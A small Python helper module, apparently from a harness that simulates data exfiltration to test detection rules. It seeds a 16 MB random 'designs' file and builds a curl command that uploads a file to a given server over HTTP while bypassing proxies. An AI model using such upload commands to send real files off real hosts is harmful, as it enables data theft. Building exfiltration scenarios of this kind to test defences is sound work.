"""What several scenarios use: data that is worth taking, and the words of an upload."""

from __future__ import annotations

from .scenario import HTTP, Prepared

DESIGN_BYTES = 16_000_000
"""More than any rule's threshold, also as base64; random, so that packing changes nothing."""


def designs(host: str) -> Prepared:
    """Return the folder /srv/designs of a host, that everybody there may read."""
    file = "/srv/designs/board.bin"
    return Prepared(
        host, f"mkdir -p /srv/designs; test -s {file} || head -c {DESIGN_BYTES} /dev/urandom > {file}"
    )


def upload(file: str, server: str) -> str:
    """Return the words that send a file by HTTP."""
    return f"curl -sS --noproxy '*' -T {file} http://{server}:{HTTP}/{file.rpartition('/')[2]}"
